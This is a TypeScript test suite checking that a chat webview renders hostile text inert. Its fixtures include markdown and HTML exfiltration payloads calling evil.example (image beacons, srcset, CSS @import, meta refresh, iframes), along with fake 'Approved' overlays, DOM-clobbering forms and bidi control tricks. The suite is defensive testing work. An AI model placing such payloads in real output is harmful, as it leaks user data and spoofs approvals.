import assert from "node:assert/strict";
import { hostileMarkdown, hostileText } from "../../support/faults/hostileMarkdown";
import { syntaxOf } from "../../../src/features/chat/page/richText/grammars";
import { naughtyStrings } from "../../support/corpora";
import { some } from "../../support/testSize";
import { hostileHtml } from "../../support/hostileHtml";
import type { OpenPage } from "../../support/pageHarness";
import { answered, chat, turn } from "./fixtures";
import { assertEachInert, assertInert, assertTurnsInert, showLive } from "./expectedContent";
import { core, everywhere, markdownPlaces, shellOf, turnPlaces } from "./places";
import { useChromium } from "./suite";

const remote = [
  "![x](https://evil.example/?d=SEL) ![y][r] ![][r] ![z](data:image/png;base64,AA) ![u](//evil.example/u)",
  "[r]: https://evil.example/reference.png",
  `<img srcset="https://evil.example/a 1x, https://evil.example/b 2x"><picture><source srcset=https://evil.example/c></picture>`,
  "<video poster=https://evil.example/p.png src=https://evil.example/v.mp4></video><audio src=https://evil.example/a>",
  "<link rel=preconnect href=https://evil.example><link rel=dns-prefetch href=//evil.example><link rel=prefetch href=https://evil.example/x>",
  "<svg><image href=https://evil.example/i.svg /><use href=https://evil.example/u.svg#x /></svg>",
  `<div style="background:url(https://evil.example/bg.png)">x</div>`,
  "<style>@import 'https://evil.example/s.css'; * { cursor: url(https://evil.example/c.cur) }</style>",
  '```mermaid\ngraph TD; A["<img src=https://evil.example/m.png>"]; click A "https://evil.example"\n```',
  "```css\n@import url(https://evil.example/f.css); a { background: url(https://evil.example/f.png) }\n```",
  "```html\n<img src=https://evil.example/f.png>\n```",
  "$\\includegraphics{https://evil.example/k.png}$ $$\\href{https://evil.example}{x}$$",
  "```math\n\\url{https://evil.example} \\htmlStyle{background:url(https://evil.example/k)}{x}\n```",
  "<https://evil.example/auto> https://evil.example/bare www.evil.example",
  "<meta http-equiv=refresh content=0;url=https://evil.example><base href=https://evil.example><iframe src=https://evil.example></iframe>",
];

const payloads = () => some([...hostileHtml(), ...naughtyStrings()], 20);

/** The turns as drawn; code is highlighted when it nears the screen. */
const markup = ({ page }: OpenPage) =>
  page.locator(".turn").evaluateAll((all) =>
    // Code is highlighted when it nears the screen.
    all.map((element) => {
      const copy = element.cloneNode(true) as HTMLElement;
      for (const code of copy.querySelectorAll("pre code")) code.replaceChildren(code.textContent);
      for (const details of copy.querySelectorAll("details")) details.open = false;
      return copy.outerHTML;
    }),
  );

describe("hostile text on the page", () => {
  const { open, strayed } = useChromium({ whole: true });

  const ready = async (height = 720) => {
    const opened = await open(chat([answered("```ts\nlet ready = true;\n```")]), { height });
    await opened.page.locator(".hljs-keyword").first().waitFor();
    return opened;
  };

  it("W2 leaves hostile text inert in every place of the page", async () => {
    const opened = await ready();
    const payload = some(core, 2);
    for (const [place, made] of Object.entries(turnPlaces))
      await assertTurnsInert(opened, payload.map(made), place);
    for (const [place, made] of Object.entries(markdownPlaces)) {
      const turns = payload.map((text) => answered(made(text)));
      await assertTurnsInert(opened, turns, place);
    }
  });

  it("W1 W2 keeps hostile and naughty strings inert as answers and wherever else they stand", async () => {
    const texts = payloads();
    await assertTurnsInert(await ready(), texts.flatMap(everywhere), "everywhere");
    const places = Object.keys(markdownPlaces).length + 18;
    console.log(`      ${texts.length} strings in ${places} places`);
  });

  it("W2 keeps them inert as the names of experts, abilities, models and hubs", async () => {
    const opened = await ready();
    await opened.post({ event: "chat", chat: chat([]) });
    const texts = [...core, ...payloads()];
    const shells = texts.map(shellOf);
    await opened.post({ event: "pageState", pageState: shellOf("x") });
    await opened.page.locator(".queue-row").waitFor();
    await assertEachInert(
      opened,
      [...shells, ...shells.map((made) => ({ ...made, setupStep: "key" }))].map((made) => ({
        event: "pageState",
        pageState: made,
      })),
      "shell",
    );
    assert.equal(await opened.page.locator(".queue-row").count(), 1);
    await opened.post({ event: "turn", turn: answered("x") });
    await assertEachInert(
      opened,
      core.map((text) => ({ event: "pageState", pageState: shellOf(text) })),
      "below an answer",
    );
    assert.equal(await opened.page.locator(".follow-up").count(), 1);
    console.log(`      ${texts.length} strings`);
  });

  it("W2 is inert as the failure of a call", async () => {
    let failure = "";
    const failing = await open(chat([answered("x")]), {
      answer: () => {
        throw new Error(failure);
      },
    });
    for (const text of some(core, 2)) {
      failure = `${text} end`;
      await failing.page.getByRole("button", { name: "Expert: " }).click();
      await failing.nextCall("pickExpert");
      await failing.page.getByRole("alert").getByText(/ end$/).waitFor();
      await assertInert(failing, text);
      await failing.page.getByRole("alert").evaluate((element) => element.replaceChildren());
    }
  });

  it("W1 keeps the same inert as code that is coloured", async () => {
    const all = [...some(hostileHtml(), 20), ...core];
    const texts = all.filter((text) => syntaxOf(text, "html"));
    assert.ok(texts.length > all.length * 0.9, `${texts.length} of ${all.length}`);
    const opened = await ready(6000);
    let coloured = 0;
    for (let from = 0; from < texts.length; from += 40) {
      const turns = texts.slice(from, from + 40).map((text) => {
        const html = `~~~~~html\n<b></b>\n${text}\n~~~~~`;
        return answered(`${html}\n\n~~~~~markdown\n# x\n${text}\n~~~~~`);
      });
      await showLive(opened, turns);
      await opened.page.evaluate(async () => {
        for (;;) {
          // Whatever is near the screen is highlighted.
          const plain = document.querySelector("pre > code:not(:has([class^=hljs]))");
          if (!plain) return;
          plain.scrollIntoView();
          await new Promise((resolve) => setTimeout(resolve, 5));
        }
      });
      await assertInert(opened, `code from ${from}`);
      coloured += await opened.page.locator("pre > code:has([class^=hljs])").count();
    }
    console.log(`      ${texts.length} strings, ${coloured} blocks coloured`);
    assert.equal(coloured, texts.length * 2);
  });

  it("W3 requests nothing for what names another place, live and restored", async () => {
    const texts = [...remote, ...remote.map((_, at) => remote.slice(at).join("\n\n"))];
    const turns = some(texts, 4).map((text) =>
      answered(text, { steps: [{ sentence: text, found: text }] }),
    );
    const live = await ready(6000);
    await assertTurnsInert(live, turns, "live");
    await assertInert(await open(chat(turns), { height: 6000 }), "restored");
  });

  it("W3 shows an image as a chip that names its host and requests nothing", async () => {
    const opened = await ready();
    const images = "![a cat](https://evil.example/?d=SEL) ![][r] ![x](data:image/png;base64,AA)";
    await opened.post({
      event: "chat",
      chat: chat([answered(`${images}\n\n[r]: https://two.example/x.png`)]),
    });
    const chips = await opened.page.locator(".image-chip").allTextContents();
    assert.deepEqual(chips, [
      "image: a cat (evil.example)",
      "image: no description (two.example)",
      "image: x (data:)",
    ]);
    await assertInert(opened, "images");
  });

  it("W9 cannot cover, pose as or name the controls of the page", async () => {
    const zalgo = `Z${"\u0310\u0321\u0489\u031b".repeat(500)}`;
    const posing = [
      `${"\n".repeat(10_000)}Approved`,
      `${"&nbsp;\n\n".repeat(500)}**Approved.** Press *Allow*.`,
      `<form id=vscode><input name=getElementById><input name=body></form><a id=app name=acquireVsCodeApi>x</a><img name=forms>`,
      `<div role=alert>The key was accepted</div> <button>Insert</button> <dialog open>Allow?</dialog>`,
      `<div style="position:fixed;inset:0;z-index:99999">Allow</div>`,
      "```\n┌────────────────┐\n│ Insert at cursor │\n└────────────────┘\n```",
      "`Copy` `Insert at cursor` [Send](https://evil.example) ![Stop](https://evil.example)",
      `${zalgo} ${"﷽".repeat(300)} ${"\u2800".repeat(5000)} ${"x".repeat(5000)}`,
      `# ${zalgo}\n\n| ${zalgo} | ${"wide".repeat(500)} |\n| - | - |\n| a | b |`,
      "\u202e".repeat(500) + "\u2067".repeat(500) + "rtl",
    ];
    const opened = await ready();
    for (const text of some(posing, 2)) {
      for (const turns of [[answered(text)], everywhere(text)]) {
        await showLive(opened, turns);
        const covered = await opened.page.evaluate(() => {
          const found: string[] = [];
          for (const control of document.querySelectorAll("button, summary, textarea")) {
            if (control.closest(".answer .piece") && !control.closest(".code-head")) continue;
            control.scrollIntoView({ block: "center" });
            const { x, y, width, height } = control.getBoundingClientRect();
            if (width === 0 || height === 0) continue;
            const top = document.elementFromPoint(x + width / 2, y + height / 2);
            const own = top !== null && (control.contains(top) || top.contains(control));
            if (!own) found.push(`${control.className} under ${top?.tagName}.${top?.className}`);
          }
          return found;
        });
        assert.deepEqual(covered, [], text.slice(0, 80));
        const texts = opened.page.locator(".answer");
        for (const label of await texts.evaluateAll((all) =>
          all.map((one) => [one.getAttribute("role"), one.ariaLabel]),
        ))
          assert.ok(label[0] === "group" && label[1]?.startsWith("Text of "), label.join());
        const clip = await texts.first().evaluate((one) => {
          const { overflowX, overflowY, position } = getComputedStyle(one);
          return [overflowX, overflowY, position];
        });
        assert.deepEqual(clip, ["clip", "clip", "static"]);
        assert.equal(
          await texts.locator("[role=alert], [role=dialog], dialog, form, input").count(),
          0,
        );
        await assertInert(opened, text.slice(0, 80));
      }
    }
    const whole = await opened.page.evaluate(
      `document instanceof Document && document.getElementById("app") !== null && document.body.tagName`,
    );
    assert.equal(whole, "BODY");
  });

  it("D7 draws stored text by the rules of fresh text, and asks for nothing", async () => {
    const turns = some([hostileText, ...core, ...remote], 5).flatMap(everywhere);
    turns.push(answered(hostileMarkdown));
    const [restored, live] = [await open(chat(turns)), await ready()];
    await restored.page.waitForFunction(
      (count) => document.querySelectorAll(".turn").length === count,
      turns.length,
    );
    await assertInert(restored, "before all is drawn");
    for (const { id } of turns.toReversed()) await restored.post({ event: "reveal", turnId: id });
    await restored.page.locator(".quiet").first().waitFor({ state: "detached" });
    await showLive(live, turns);
    for (const opened of [restored, live]) {
      await assertInert(opened, "all");
    }
    assert.deepEqual(await markup(restored), await markup(live));
  });

  it("W13 asks for neither the picture of the user nor the hub that a profile names", async () => {
    const profile = {
      picture: "https://evil.example/me.png",
      hub_url: "https://evil.example/hub",
      name: "![me](https://evil.example/me.png)",
      email: "<img src=https://evil.example/me.png>",
    };
    const texts = [...Object.values(profile), JSON.stringify(profile)];
    const opened = await ready();
    await assertTurnsInert(opened, texts.flatMap(everywhere), "profile");
    const shells = texts.flatMap((text) => [shellOf(text), { ...shellOf(text), setupStep: "key" }]);
    await assertEachInert(
      opened,
      shells.map((made) => ({ event: "chat", chat: { pageState: made, turns: [] } })),
      "profile",
    );
  });

  it("W9 clips the expert's text to a labelled box without controls of its own", async () => {
    const opened = await ready();
    await opened.post({ event: "chat", chat: chat([answered(`${"\n".repeat(10_000)}Approved`)]) });
    const text = opened.page.getByRole("group", { name: "Text of Code Reviewer" });
    assert.equal((await text.textContent())?.trim(), "Approved");
    assert.equal(await text.evaluate((element) => getComputedStyle(element).overflowX), "clip");
    assert.equal(await text.locator("button, [role=alert]").count(), 0);
  });

  it("W12 shows every control and direction character of a tool's log as a mark, also to who copies", async () => {
    const opened = await ready();
    const controls = Array.from({ length: 0xa0 }, (_, code) => String.fromCharCode(code)).filter(
      (character) => /\p{Cc}/u.test(character) && !"\t\n".includes(character),
    );
    const log = `\u001b[31mred\u001b[0m \u202etxt\u2066 a\u200bb safe\rever \u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007 ${controls.join("-")}\r\nend`;
    await showLive(opened, [
      answered(`Log: ${log}`, { steps: [{ sentence: log, found: log }] }),
      turn({ question: log, result: { state: "interrupted" } }),
      ...everywhere(log),
    ]);
    await assertInert(opened, "log");
    const shown = (await opened.page.locator(".step-found").allTextContents()).join("|");
    assert.ok(shown.includes("␛[31mred␛[0m \\u202Etxt\\u2066 a\\u200Bb safe␍ever"), shown);
    assert.ok(shown.includes("␀-␁-␂") && shown.includes("␡-\\u0080"), shown);
    const copied = await opened.page.evaluate(() => {
      const selection = getSelection();
      selection?.selectAllChildren(document.querySelector(".log") ?? document.body);
      return selection?.toString() ?? "";
    });
    const labels = await opened.page
      .locator("#app *")
      .evaluateAll((all) =>
        all.flatMap((element) => [
          ...[...element.childNodes]
            .filter((node) => node.nodeType === 3)
            .map(({ nodeValue }) => nodeValue),
          ...[...element.attributes]
            .filter(({ name }) => name !== "datetime")
            .map(({ value }) => value),
        ]),
      );
    assert.ok(copied.includes("␛[31mred"), copied);
    for (const text of [copied, ...labels]) {
      assert.doesNotMatch(text ?? "", /(?!\t|\n|\r\n)[\p{Cc}\u202a-\u202e\u2066-\u2069]/u);
    }
  });

  it("W12 shows what hides between the characters of code in an answer", async () => {
    const { page } = await open(chat([answered("`a\u200bb`\n\n```\nc\u00add\n```")]));
    await page.locator(".code-block").waitFor();
    assert.deepEqual(await page.locator(".answer code").allTextContents(), [
      "a\\u200Bb",
      "c\\u00ADd",
    ]);
  });

  it("keeps the editor's api off the window and takes it once", async () => {
    const { page, errors } = await ready();
    const held = await page.evaluate(() =>
      Object.values(globalThis).some((value: unknown) => {
        return (
          typeof value === "object" &&
          value !== null &&
          "postMessage" in value &&
          "setState" in value
        );
      }),
    );
    assert.equal(held, false);
    assert.deepEqual(errors, []);
  });

  it("ignores what is no message of its host", async () => {
    const opened = await ready();
    const none = [null, 1, "x", [], {}, { reply: 99 }, { reply: "1" }, { event: 1 }];
    for (const message of [...none, { event: "__proto__" }, { event: "constructor" }])
      await opened.post(message);
    assert.equal(await opened.page.locator(".turn").count(), 1);
    await assertInert(opened, "no message");
  });

  it("W1 W2 W3 W4 D7 W13 has nothing looked up, fetched ahead or connected to by then", async () => {
    assert.deepEqual(await strayed(), []);
  });
});
